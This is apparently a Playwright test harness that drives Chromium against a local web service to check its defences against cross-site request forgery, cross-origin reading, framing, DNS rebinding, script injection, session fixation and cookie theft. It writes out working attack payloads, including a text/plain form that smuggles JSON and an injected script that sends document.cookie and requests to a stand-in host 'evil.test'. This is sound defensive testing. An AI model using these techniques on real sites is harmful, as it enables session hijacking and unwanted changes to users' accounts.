// What the command browser runs: a Chromium that visits pages of attackers, beside a service that it may have signed in
// at. What arrives at the service is told by its own log, and what became of it by its rows, asked for by a plain client.
//
//   node browser.mjs SITUATION
//
// SITUATION is a JSON object, see the command; with a step, only that is done, and until what is sought is found. Prints one JSON object: what was tried with which outcome, as Markdown,
// how much that was, and what got through.

import fs from "node:fs";
import http from "node:http";
import https from "node:https";
import { spawnSync } from "node:child_process";

import { chromium } from "playwright-core";
import YAML from "yaml";

const situation = JSON.parse(process.argv[2]);
const { mode, host, port, tls, payloads, step, sought } = situation; // mode is "loopback", "network" or "tls"
const scheme = tls ? "https" : "http";
const home = `${scheme}://${host}:${port}`;
const guarded = mode !== "loopback"; // whether callers need a token
const PATIENCE = 5000; // milliseconds, for what has to arrive
const BRIEFLY = 300; // milliseconds, for what should not

const findings = [];
const outcomes = []; // [attack, what was attacked, outcome]
let tried = 0;

const FOUND = new Error("what was sought is found");

/** Something got through. What was planted ends the search. */
function found(what) {
  findings.push(what);
  if (sought && what.includes(sought)) throw FOUND;
}

function outcome(attack, where, held, seen) {
  tried++;
  outcomes.push([attack, where, held ? seen : `**${seen}**`]);
  if (!held) found(`${attack}, ${where}: ${seen}`);
}

const sleep = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

async function until(condition, patience = PATIENCE) {
  for (const end = Date.now() + patience; ; await sleep(20)) {
    const found = await condition();
    if (found || Date.now() > end) return found;
  }
}

// ---- a plain client, which no browser guards ----

function ask(method, path, { headers = {}, body, at = host } = {}) {
  return new Promise((resolve, reject) => {
    const request = (tls ? https : http).request(
      { method, path, port, host: "127.0.0.1", servername: "", rejectUnauthorized: false,
        headers: { host: `${at}:${port}`, ...headers } },
      (response) => {
        const chunks = [];
        response.on("data", (chunk) => chunks.push(chunk));
        response.on("end", () =>
          resolve({ status: response.statusCode, headers: response.headers, text: Buffer.concat(chunks).toString() }));
      },
    );
    request.on("error", reject);
    request.end(body);
  });
}

const bearer = guarded ? { authorization: `Bearer ${situation.operator}` } : {};
const form = (fields) => ({
  headers: { "content-type": "application/x-www-form-urlencoded" },
  body: new URLSearchParams(fields).toString(),
});

/** All that callers can change, byte for byte. */
async function rows() {
  const answers = [];
  for (const path of ["/users?per_page=100", "/posts?per_page=100", "/admin/backups"]) {
    const { status, text } = await ask("GET", path, { headers: bearer });
    if (status !== 200) throw new Error(`GET ${path}: ${status} ${text}`);
    answers.push(text);
  }
  return answers.join("\n");
}

// ---- what the service says has arrived ----

const log = {
  file: fs.openSync(situation.log),
  position: 0,
  rest: "",
  kept: [],

  /** What browsers have asked for since `forget`, but for what only reads. */
  entries() {
    const more = Buffer.alloc(fs.fstatSync(this.file).size - this.position);
    this.position += fs.readSync(this.file, more, 0, more.length, this.position);
    const lines = (this.rest + more.toString("latin1")).split("\n");
    this.rest = lines.pop();
    for (const line of lines.filter((line) => line.startsWith("{") && line.includes("Chrome/"))) {
      const entry = JSON.parse(line);
      if (entry.method !== "GET") this.kept.push(entry);
    }
    return this.kept;
  },

  forget() {
    this.entries();
    this.kept = [];
  },
};

// ---- who attacks ----

const stolen = []; // what was sent to the attackers

/** Pages of attackers: empty ones, and ones that make the browser report to where it is told. */
function answer(request, response) {
  const url = new URL(request.url, "http://attacker.test");
  const headers = { "content-type": "text/html" };
  let text = "<!DOCTYPE html><title>Look at these kittens</title><body>";
  if (url.pathname === "/report") {
    headers["content-security-policy"] = `style-src 'none'; report-uri ${url.searchParams.get("to")}`;
    text += "<style>body { color: red }</style>";
  } else if (url.pathname !== "/" && url.pathname !== "/favicon.ico") {
    stolen.push(request.url);
  }
  response.writeHead(200, headers).end(text);
}

async function attacker(secure) {
  const options = secure && { cert: fs.readFileSync(tls.cert), key: fs.readFileSync(tls.key) };
  const server = secure ? https.createServer(options, answer) : http.createServer(answer);
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return server;
}

const servers = [await attacker(Boolean(tls)), ...(tls ? [await attacker(false)] : [])];
const ports = servers.map((server) => server.address().port);
const evil = `${scheme}://evil.test:${ports[0]}`;

/** Where attacks come from: each is another origin than the service's, and some are the same site. */
const origins = {
  ...(tls ? {} : { "another site": evil }),
  "the same host, another port": `${scheme}://${host}:${ports[0]}`,
  ...(guarded
    ? { "a host of the same site": `${scheme}://other.${host}:${ports[0]}` }
    : { "another name of the machine": `${scheme}://localhost:${ports[0]}` }),
  ...(tls ? { "the same host without TLS": `http://${host}:${ports[1]}` } : {}),
  ...(tls ? {} : { "no origin (sandbox)": evil }),
};

// ---- by which means: functions that run in the attacker's page. Each sends all it can, and waits until it is sent ----

const MEANS = {};
const submit = async ({ routes, type, target, referrer }) => {
  for (const [number, { url, fields, json }] of routes.entries()) {
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: url, enctype: type, rel: referrer ? "" : "noreferrer" });
    // The text of a plain form can be made to look like JSON.
    const shown = type === "text/plain" ? { [`${json.slice(0, -1)},"x":"`]: '"}' } : fields;
    for (const [name, value] of Object.entries(shown)) {
      const input = document.createElement("input");
      Object.assign(input, { type: "hidden", name, value });
      form.append(input);
    }
    if (target === "frame") {
      const frame = document.createElement("iframe");
      frame.name = form.target = `frame-${number}`;
      document.body.append(frame);
    } else {
      form.target = "_blank";
    }
    document.body.append(form);
    form.submit();
  }
};
for (const type of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
  MEANS[`form, ${type.replace(/.*(x-www-form-|\/)/, "")}`] = {
    run: submit, options: { type, target: "frame", referrer: true }, costly: !type.endsWith("urlencoded") };
}
MEANS["form, new window"] = {
  run: submit, options: { type: "application/x-www-form-urlencoded", target: "window", referrer: true }, costly: true };
MEANS["form, no referrer"] = {
  run: submit, options: { type: "application/x-www-form-urlencoded", target: "window", referrer: false }, costly: true };

const request = async ({ routes, mode, credentials, method, type, referrerPolicy = "" }) => {
  await Promise.allSettled(routes.map((route) => {
    const bodies = { "application/json": route.json, "text/plain": route.json,
      "application/x-www-form-urlencoded": new URLSearchParams(route.fields).toString() };
    return fetch(route.url, { mode, credentials, referrerPolicy, method: method ?? route.method, body: bodies[type],
      headers: type ? { "Content-Type": type } : {} });
  }));
};
const fetches = {
  "fetch, JSON": { mode: "cors", credentials: "include", type: "application/json" },
  "fetch, JSON, without credentials": { mode: "cors", credentials: "omit", type: "application/json" },
  "fetch, no body": { mode: "cors", credentials: "include" },
  "fetch, text": { mode: "cors", credentials: "include", type: "text/plain" },
  "fetch, POST as a form": { mode: "cors", credentials: "include", method: "POST", type: "application/x-www-form-urlencoded" },
  "fetch, no-cors, JSON as text": { mode: "no-cors", credentials: "include", method: "POST", type: "text/plain" },
  "fetch, no-cors, JSON": { mode: "no-cors", credentials: "include", method: "POST", type: "application/json" },
  "fetch, no-cors, as a form": {
    mode: "no-cors", credentials: "include", method: "POST", type: "application/x-www-form-urlencoded" },
  "fetch, no-cors, no referrer": { mode: "no-cors", credentials: "include", method: "POST", referrerPolicy: "no-referrer" },
};
for (const [name, options] of Object.entries(fetches)) MEANS[name] = { run: request, options };
MEANS["fetch, no-cors, own method"] = {
  run: request, options: { mode: "no-cors", credentials: "include", type: "application/json" }, mayStay: true };

MEANS["XMLHttpRequest, JSON"] = {
  run: async ({ routes }) => {
    await Promise.all(routes.map((route) => new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open(route.method, route.url);
      request.withCredentials = true;
      request.setRequestHeader("Content-Type", "application/json");
      request.onloadend = resolve;
      request.send(route.json);
    })));
  },
};
const beacon = async ({ routes, kind }) => {
  for (const { url, json, fields } of routes) {
    const data = { text: json, JSON: new Blob([json], { type: "application/json" }), form: new URLSearchParams(fields) };
    navigator.sendBeacon(url, data[kind]);
  }
};
for (const kind of ["text", "JSON", "form"]) MEANS[`sendBeacon, ${kind}`] = { run: beacon, options: { kind } };
MEANS["a link's ping"] = {
  run: async ({ routes }) => {
    for (const { url } of routes) {
      const link = document.createElement("a");
      Object.assign(link, { href: "#there", ping: url });
      document.body.append(link);
      link.click();
    }
  },
};
MEANS["report of a policy"] = {
  run: async ({ routes, self }) => {
    await Promise.all(routes.map(({ url }) => new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.onload = resolve;
      frame.src = `${self}/report?to=${encodeURIComponent(url)}`;
      document.body.append(frame);
    })));
  },
};

// ---- the browser ----

const browser = await chromium.launch({
  executablePath: situation.chromium,
  args: [
    "--host-resolver-rules=MAP *.test 127.0.0.1",
    "--no-proxy-server",
    "--disable-gpu",
    // It would keep some pages from asking this machine at all; the service must not rest on that.
    "--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,HttpsUpgrades",
  ],
});
const context = await browser.newContext({ ignoreHTTPSErrors: true });
context.setDefaultTimeout(20_000);
const asked = []; // addresses and referrers of all requests
context.on("request", (request) => asked.push(request.url(), request.headers().referer ?? ""));
const ran = []; // scripts that were nobody's but a user's
await context.exposeBinding("owned", (source, what) => ran.push(`${source.page.url()}: ${what}`));
const violations = []; // of policies, by our pages
context.on("console", (message) => {
  if (/Content.Security.Policy/i.test(message.text()) && message.page()?.url().startsWith(home)) {
    violations.push(`${message.page().url()}: ${message.text()}`);
  }
});
context.on("dialog", (dialog) => { ran.push(dialog.message()); dialog.dismiss(); });

const victim = await context.newPage();

async function close(...kept) {
  for (const page of context.pages()) if (page !== victim && !kept.includes(page)) await page.close();
}

/** Goes there; what the browser would rather save is no page. */
function visit(page, address) {
  return page.goto(address).catch((error) => {
    if (!/Download is starting|ERR_ABORTED/.test(error.message)) throw error;
  });
}

const cookies = () => context.cookies(home).then((all) => all.filter(({ name }) => name.endsWith("inkwell-session")));
const names = (value) => ({ headers: { cookie: `${tls ? "__Host-" : ""}inkwell-session=${value}` } });

async function signIn(token) {
  await victim.goto(`${home}/sign-in`);
  await victim.fill("input[name=token]", token);
  await Promise.all([
    victim.waitForResponse((response) => response.request().method() === "POST"),
    victim.click("main button"),
  ]);
  await victim.waitForLoadState();
}

// ---- the routes: those of the document, and where the forms of the pages lead ----

const document_ = YAML.parse((await ask("GET", "/openapi.yaml", { headers: bearer })).text);
const reads = [];
const routes = []; // no two with the same path, so that the log tells them apart
for (const [template, item] of Object.entries(document_.paths)) {
  for (const method of Object.keys(item).filter((key) => /^(get|put|post|patch|delete)$/.test(key))) {
    let path = template.replace("{name}", situation.backup);
    if (method !== "get") for (let id = 1; routes.some((route) => route.path === path) || path.includes("{"); id++) {
      path = template.replace("{name}", situation.backup).replace("{id}", id);
      if (!template.includes("{id}")) break;
    }
    if (method === "get") reads.push(path.replace("{id}", "1").replace("{slug}", "forbidden"));
    else addRoute(method.toUpperCase(), path, `${method.toUpperCase()} ${template}`);
  }
}

function addRoute(method, path, name) {
  if (routes.some((route) => route.path === path && route.method === method)) return;
  const number = routes.length;
  const user = { username: `attack-${number}`, email: `attack-${number}@example.org` };
  const post = { title: `attack-${number}`, body: "", user_id: 1 };
  const body = path.startsWith("/posts") ? post : path.startsWith("/users") ? user : {};
  routes.push({
    method, path, name, url: home + path, json: JSON.stringify(body),
    fields: { ...user, ...post, ...(guarded ? { token: situation.attacker } : {}), _method: method },
  });
}

const pages = new Set();

/** Looks at all pages that links lead to, and at what their forms would send: the same form of other rows is the same. */
async function crawl() {
  const forms = new Set();
  const queue = ["/", "/add", ...(guarded ? ["/sign-in"] : [])];
  while (queue.length) {
    const path = queue.shift();
    if (pages.has(path) || pages.size > 60) continue;
    const response = await visit(victim, home + path);
    if (!response?.headers()["content-type"]?.startsWith("text/html")) continue;
    pages.add(path);
    const seen = await victim.evaluate(() => ({
      links: [...document.links].filter((link) => link.origin === location.origin).map(({ pathname }) => pathname),
      forms: [...document.forms].filter(({ method }) => method === "post").map(({ action }) => new URL(action).pathname),
      odd: location.pathname === "/docs" ? 0 : document.querySelectorAll(
        "script:not(head > [src^='/assets/']), img, svg:not(.bars), iframe, object, embed, base, style, meta[http-equiv], [onerror], [onload], [onfocus], [style]").length,
    }));
    queue.push(...seen.links);
    for (const action of seen.forms) {
      const form = action.replace(/\d+/g, "{id}");
      if (!forms.has(form)) addRoute("POST", action, `POST ${form} (form)`);
      forms.add(form);
    }
    if (seen.odd) found(`a page shows more than text: ${path}`);
  }
}

// ---- the attacks ----

/** In the attacker's page or its frame, all means; a table with a line for each, and a column for each route. */
async function battery(name, origin, targets, refusals, cells) {
  const page = await context.newPage();
  let there = page;
  if (origin.url) await page.goto(origin.url);
  if (origin.prepare) there = await origin.prepare(page);
  for (const [means, { run, options, mayStay, costly }] of Object.entries(MEANS)) {
    if (costly && origin.isLike) continue; // frames and windows take long
    if (means === "report of a policy" && origin.prepare && !origin.sandbox) continue; // needs a page of its own
    const before = await rows();
    log.forget();
    await there.evaluate(run, { routes: targets, self: origin.url, ...options });
    const arrived = () => {
      const entries = log.entries();
      return targets.map(({ path }) => entries.filter((entry) => entry.path === path));
    };
    await until(() => arrived().every((entries) => entries.length), mayStay ? BRIEFLY : PATIENCE);
    const lines = arrived();
    for (const [number, route] of targets.entries()) {
      tried++;
      const seen = [...new Set(lines[number].map(({ method, status }) =>
        method === "OPTIONS" ? `preflight ${status}` : String(status)))];
      if (!seen.length) {
        seen.push("not sent");
        if (!mayStay) found(`${means} from ${name} never reached ${route.name}: the attack is not one`);
      }
      const through = lines[number].filter(({ status }) => !refusals.includes(status));
      if (through.length) found(`${means} from ${name} got through to ${route.name}: ${seen}`);
      const cell = ((cells[means] ??= {})[route.name] ??= new Set());
      seen.forEach((text) => cell.add(through.length ? `**${text}**` : text));
    }
    const after = await rows();
    if (before !== after) found(`${means} from ${name} changed rows`);
    await there.evaluate(() => document.body.replaceChildren());
    await close(page);
  }
  await page.close();
}

const sandboxed = async (page) => {
  await page.evaluate(() => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts allow-forms allow-popups";
    frame.srcdoc = "<!DOCTYPE html><body>";
    document.body.append(frame);
  });
  return until(() => page.frames().find((frame) => frame !== page.mainFrame()));
};

async function forgeries(cells) {
  for (const [number, [name, url]] of Object.entries(origins).entries()) {
    const isSandbox = name.includes("sandbox");
    const origin = { url, isLike: number > 1 || mode === "tls", sandbox: isSandbox, prepare: isSandbox ? sandboxed : undefined };
    await battery(name, origin, routes, [403], cells);
  }
}

/** Whatever of an answer a script of another origin can get hold of. */
const readers = {
  "fetch": async (url) => (await fetch(url)).text(),
  "fetch with credentials": async (url) => (await fetch(url, { credentials: "include" })).text(),
  "fetch, no-cors": async (url) => (await fetch(url, { mode: "no-cors", credentials: "include" })).text(),
  "XMLHttpRequest": (url) => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open("GET", url);
    request.withCredentials = true;
    request.onloadend = () => resolve(request.responseText);
    request.send();
  }),
  "script": (url) => new Promise((resolve) => {
    const script = document.createElement("script");
    script.onload = () => resolve("it was loaded");
    script.onerror = () => resolve("");
    script.src = url;
    document.body.append(script);
  }),
  "style sheet": (url) => new Promise((resolve) => {
    const link = document.createElement("link");
    link.onload = () => { try { resolve([...link.sheet.cssRules].map((rule) => rule.cssText).join()); } catch { resolve(""); } };
    link.onerror = () => resolve("");
    Object.assign(link, { rel: "stylesheet", href: url });
    document.body.append(link);
  }),
  "frame": (url) => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.onload = () => { try { resolve(frame.contentWindow.document.documentElement.outerHTML); } catch { resolve(""); } };
    frame.src = url;
    document.body.append(frame);
  }),
};
async function readAll([source, urls]) {
  const read = new Function(`return ${source}`)();
  return Promise.all(urls.map((url) => {
    const late = new Promise((resolve) => setTimeout(resolve, 1500, ""));
    return Promise.race([Promise.resolve(read(url)).catch(() => ""), late]);
  }));
}

async function reading() {
  for (const [name, url] of Object.entries(origins)) {
    const page = await context.newPage();
    await page.goto(url);
    const there = name.includes("sandbox") ? await sandboxed(page) : page;
    const paths = [...new Set([...reads, "/", "/add", "/pages/users/1", "/docs", "/nowhere"])];
    for (const [way, read] of Object.entries(readers)) {
      const texts = await there.evaluate(readAll, [String(read), paths.map((path) => home + path)]);
      const seen = paths.filter((path, number) => texts[number]);
      outcome(`reading by ${way}`, `${paths.length} routes, from ${name}`, !seen.length, seen.join(" ") || "nothing was read");
    }
    const seen = await there.evaluate(async (url) => {
      const opened = window.open(url);
      await new Promise((resolve) => setTimeout(resolve, 700));
      try { return opened.document.documentElement.outerHTML; } catch (error) { return error.name; }
    }, `${home}/`);
    outcome("reading a window that was opened", `/, from ${name}`, seen === "SecurityError", seen);
    await close();
  }
}

async function framing() {
  for (const [name, url] of Object.entries({ ...origins, "the service's own origin": home })) {
    if (name.includes("sandbox")) continue;
    const page = await context.newPage();
    if (url === home) await page.route(`${home}/framing`, (route) => route.fulfill({ contentType: "text/html", body: "<body>" }));
    await page.goto(url === home ? `${home}/framing` : url);
    const paths = [...pages].filter((path) => !/^\/pages\/users\/(?!1$)/.test(path)).concat("/nowhere", "/problems/forbidden");
    for (const element of ["iframe", "object"]) {
      await page.evaluate(async ([element, urls]) => {
        await Promise.all(urls.map((url) => new Promise((resolve) => {
          const frame = document.createElement(element);
          frame.onload = frame.onerror = resolve;
          frame[element === "object" ? "data" : "src"] = url;
          document.body.append(frame);
          setTimeout(resolve, 3000);
        })));
      }, [element, paths.map((path) => home + path)]);
      const shown = page.frames().filter((frame) => frame.url().startsWith(home) && frame !== page.mainFrame());
      outcome(`framing by ${element}`, `${paths.length} pages, from ${name}`, !shown.length,
        shown.map((frame) => frame.url()).join(" ") || "nothing was shown");
      await page.evaluate(() => document.body.replaceChildren());
    }
    await close();
  }
}

/** Where whoever is not signed in is led from the pages. */
const isSignIn = (address) => guarded && new URL(address).pathname === "/sign-in";

/** A host of the attacker's points to the service: to the browser, their pages and ours are of one origin. */
async function rebinding(cells) {
  const refusals = guarded ? [401, 403] : [403];
  const all = [...new Set([...reads, "/", "/add", "/pages/users/1", "/docs", "/nowhere"])];
  const closed = all.filter((path) => !guarded || !/^\/(livez|readyz|problems)/.test(path)); // others are open to anybody
  for (const name of ["rebound.test", "localhost.rebound.test", "127.0.0.1.rebound.test"]) {
    const there = `${scheme}://${name}:${port}`;
    const targets = routes.filter(({ path }) => !guarded || !/^\/sign-/.test(path))
      .map((route) => ({ ...route, url: there + route.path }));
    const page = await context.newPage();
    const statuses = new Set();
    const paths = name === "rebound.test" ? closed : ["/", "/users"];
    for (const path of paths) {
      const response = await visit(page, there + path);
      statuses.add(!response ? "a file" : isSignIn(response.url()) ? 401 : response.status());
    }
    outcome("DNS rebinding, visiting", `${paths.length} routes, at ${name}`,
      [...statuses].every((status) => refusals.includes(status)), [...statuses].join(", "));
    const prepare = async (page) => {
      await page.route(`${there}/attack`, (route) => route.fulfill({ contentType: "text/html", body: "<body>" }));
      await page.goto(`${there}/attack`);
      return page;
    };
    await prepare(page);
    const texts = await page.evaluate(readAll,
      ["async (url) => { const answer = await fetch(url); return answer.url + ' ' + answer.status + ' ' + await answer.text(); }",
        paths.map((path) => there + path)]);
    const read = texts.filter((text) => text.includes("needle") ||
      !(isSignIn(text.split(" ", 1)[0]) || refusals.includes(Number(text.split(" ", 2)[1]))));
    outcome("DNS rebinding, a script that reads", `${texts.length} routes, at ${name}`, !read.length,
      read.length ? `${read[0].slice(0, 100)} and ${read.length - 1} more` : `${refusals}`);
    await page.close();
    if (name === "rebound.test") await battery(name, { prepare, isLike: true }, targets, refusals, cells);
  }
}

/** Users and posts whose text would be a script, if it were not text. */
async function scripts() {
  violations.length = 0; // those of the frames
  const shown = await victim.goto(`${home}/?per_page=100`).then(() => victim.innerText("main"));
  const missed = payloads.filter((payload) => !shown.includes(payload));
  outcome("a user's name that is HTML", "/", !missed.length, missed.join("; ") || "shown as text");
  for (const path of [...reads, ...pages]) {
    await visit(victim, home + path);
  }
  for (const payload of payloads) {
    const encoded = encodeURIComponent(payload);
    for (const path of [`/nowhere/${encoded}`, `/?page=${encoded}`, `/?${encoded}=1`, `/pages/users/${encoded}`,
      `/users?sort=${encoded}`, `/users?${encoded}=1`, `/users/${encoded}`, `/problems/${encoded}`]) {
      await victim.goto(home + path);
    }
    await victim.goto(`${home}/add`);
    await victim.fill("input[name=username]", payload);
    await victim.fill("input[name=email]", payload);
    await Promise.all([victim.waitForNavigation(), victim.click("main button")]);
    const kept = await victim.inputValue("input[name=email]");
    if (kept !== payload) found(`the form keeps ${kept} of ${payload}`);
  }
  outcome("text that is HTML", `${reads.length + pages.size} routes and pages, ${payloads.length} texts in 10 places`,
    !ran.length, ran.join("; ") || "nothing ran");
  const ours = violations.filter((text) => !text.includes("/docs"));
  outcome("text that is HTML", "all pages", !ours.length, ours[0] ?? "no policy was needed");
  await victim.goto(`${home}/docs?url=${encodeURIComponent(`${evil}/openapi.yaml`)}&configUrl=${encodeURIComponent(`${evil}/config`)}`);
  await victim.waitForSelector(".swagger-ui .info");
  outcome("another document for the API's page", "/docs", !stolen.length, stolen.join(" ") || "not asked for");

  // The second fence: even a script that got into a page would not run, and would tell nobody.
  for (const path of ["/", "/docs"]) {
    await victim.goto(home + path);
    await victim.evaluate((evil) => {
      const script = document.createElement("script");
      script.textContent = "owned('inline')";
      const foreign = document.createElement("script");
      foreign.src = `${evil}/script.js`;
      const image = new Image();
      image.src = `${evil}/image?${document.cookie}`;
      image.setAttribute("onerror", "owned('handler')");
      const form = document.createElement("form");
      Object.assign(form, { method: "post", action: `${evil}/form` });
      const frame = document.createElement("iframe");
      frame.src = `${evil}/frame`;
      const base = document.createElement("base");
      base.href = evil;
      document.head.append(base);
      document.body.append(script, foreign, image, form, frame);
      form.submit();
      fetch(`${evil}/fetch`, { mode: "no-cors" }).catch(() => {});
      navigator.sendBeacon(`${evil}/beacon`);
    }, evil);
    await sleep(BRIEFLY);
    outcome("a script that got into a page", path, !ran.length && !stolen.length,
      [...ran, ...stolen].join("; ") || "the policy keeps it from running, and from telling");
  }
}

/** What the service must do for its own pages: else all that is refused says nothing. */
async function own() {
  if (guarded) await fixation();
  await crawl();
  const before = await rows();
  await victim.goto(`${home}/add`);
  await victim.fill("input[name=username]", `own-${mode}`);
  await victim.fill("input[name=email]", `own-${mode}@example.org`);
  await Promise.all([victim.waitForURL(`${home}/`), victim.click("main button")]);
  if ((await rows()) === before) throw new Error("the page's own form changes nothing: what would refusals say?");
}

async function cookieOfSession() {
  const [cookie] = await cookies();
  const wanted = { httpOnly: true, secure: Boolean(tls), sameSite: "Lax", path: "/", domain: host, expires: -1,
    name: `${tls ? "__Host-" : ""}inkwell-session` };
  const wrong = Object.entries(wanted).filter(([key, value]) => cookie[key] !== value).map(([key]) => `${key}: ${cookie[key]}`);
  outcome("the session's cookie", "sign in", !wrong.length, wrong.join(", ") ||
    `\`${cookie.name}\`, HttpOnly, SameSite=Lax${tls ? ", Secure" : ""}, for this host alone`);
  const seen = await victim.evaluate(() => document.cookie);
  outcome("cookie theft by script", "document.cookie", !seen.includes(cookie.value), seen || "not there");
  return cookie.value;
}

async function fixation() {
  // The attacker's own session, which the victim's browser is made to bring along.
  const signedIn = await ask("POST", "/sign-in", form({ token: situation.attacker }));
  const planted = /inkwell-session=([^;]+)/.exec(signedIn.headers["set-cookie"]?.[0])[1];
  if ((await ask("GET", "/users", names(planted))).status !== 200) throw new Error("the attacker has no session");
  await context.addCookies([{ name: `${tls ? "__Host-" : ""}inkwell-session`, value: planted, domain: host, path: "/",
    secure: Boolean(tls), httpOnly: true, sameSite: "Lax" }]);
  await signIn(situation.victim);
  const [cookie] = await cookies();
  const { status } = await ask("GET", "/users", names(planted));
  outcome("session fixation", "a session that was planted before the sign-in", cookie.value !== planted && status === 401,
    cookie.value === planted ? "it is the session after it, too" : `another one after it; the planted one: ${status}`);
  if (tls) {
    const page = await context.newPage();
    await page.goto(origins["a host of the same site"]);
    await page.evaluate((host) => {
      document.cookie = `__Host-inkwell-session=planted; path=/; secure; domain=${host}`;
    }, host);
    const now = await cookies();
    outcome("session fixation", "a cookie that another host of the site plants", now.length === 1 && now[0].value === cookie.value,
      now.length === 1 ? "refused by the browser, for its name" : JSON.stringify(now));
    await close();
  }
}

async function ending(session) {
  const lives = async (value) => (await ask("GET", "/users", names(value))).status;
  if ((await lives(session)) !== 200) found("an attack ended the session");
  const [now] = await cookies();
  if (now?.value !== session) found("an attack replaced the session");

  await victim.goto(`${home}/`);
  await Promise.all([victim.waitForURL(`${home}/sign-in`), victim.click("header form button")]);
  outcome("the old cookie after the sign-out", "GET /users", (await lives(session)) === 401, String(await lives(session)));
  await victim.goBack().catch(() => {});
  await sleep(BRIEFLY);
  const shown = await victim.innerText("body");
  outcome("going back after the sign-out", "/", !shown.includes("needle"),
    shown.includes("needle") ? "the page is shown again" : "nothing is shown");

  await signIn("inkwell_not-a-token");
  outcome("a wrong token", "POST /sign-in", !(await cookies()).length && !(await victim.content()).includes("not-a-token"),
    "no session, and it is not sent back");
  await signIn(situation.victim);
  const [{ value }] = await cookies();
  if ((await lives(value)) !== 200) found("the second sign-in opened no session");
  const revoked = spawnSync(situation.revoke[0], situation.revoke.slice(1), { encoding: "utf8" });
  if (revoked.status) throw new Error(`token revoke: ${revoked.stderr}`);
  const response = await victim.goto(`${home}/`);
  outcome("the session after token revoke", "/",
    isSignIn(response.url()) && (await lives(value)) === 401, `${new URL(response.url()).pathname}, ${await lives(value)}`);

  const secrets = [situation.victim, situation.attacker, situation.operator, session, value];
  const written = fs.readFileSync(situation.log, "utf8");
  const where = secrets.filter((secret) => asked.some((address) => address.includes(secret)));
  outcome("a token or session in an address", `${asked.length} addresses and referrers`, !where.length, where.length ? "there" : "none");
  outcome("a token or session in the log", `${written.split("\n").length} lines`,
    !secrets.some((secret) => written.includes(secret)), secrets.some((secret) => written.includes(secret)) ? "there" : "none");
  if (tls) {
    const { headers } = await ask("GET", "/sign-in");
    const hsts = headers["strict-transport-security"];
    outcome("asking without TLS later", "/sign-in", Boolean(hsts), hsts ?? "no Strict-Transport-Security");
  }
}

function table(title, cells) {
  const means = Object.keys(cells);
  const cell = (name, route) => [...(cells[name][route] ?? ["–"])].join(", ");
  const used = [...new Set(Object.values(cells).flatMap((row) => Object.keys(row)))];
  return [`| ${title} | ${means.join(" | ")} |`, `|${" --- |".repeat(means.length + 1)}`,
    ...used.map((route) => `| ${route} | ${means.map((name) => cell(name, route)).join(" | ")} |`)].join("\n");
}

const cells = { forged: {}, rebound: {} };
try {
  await own(); // signed in, where people sign in
  const before = await rows();
  const session = guarded ? await cookieOfSession() : undefined;
  const steps = {
    forgeries: () => forgeries(cells.forged),
    reading,
    framing,
    rebinding: () => rebinding(cells.rebound),
    ...(mode === "network" ? { scripts } : {}), // the pages are the same in each
    ...(guarded ? { ending: () => ending(session) } : {}),
  };
  for (const [name, run] of Object.entries(steps)) if (!step || step === name) await run();
  outcome("all of it", "users, posts and backups", before === (await rows()), "as before, byte for byte");
} catch (failure) {
  if (failure !== FOUND) throw failure;
} finally {
  await browser.close();
  servers.forEach((server) => { server.closeAllConnections(); server.close(); });
}
const markdown = [
  `From ${Object.keys(origins).join("; ")}:`,
  table("route", cells.forged),
  "By DNS rebinding, from rebound.test:",
  table("route", cells.rebound),
  ["| attack | where | outcome |", "| --- | --- | --- |", ...outcomes.map((row) => `| ${row.join(" | ")} |`)].join("\n"),
].join("\n\n");
process.stdout.write(JSON.stringify({ markdown, tried, findings, routes: routes.length }));
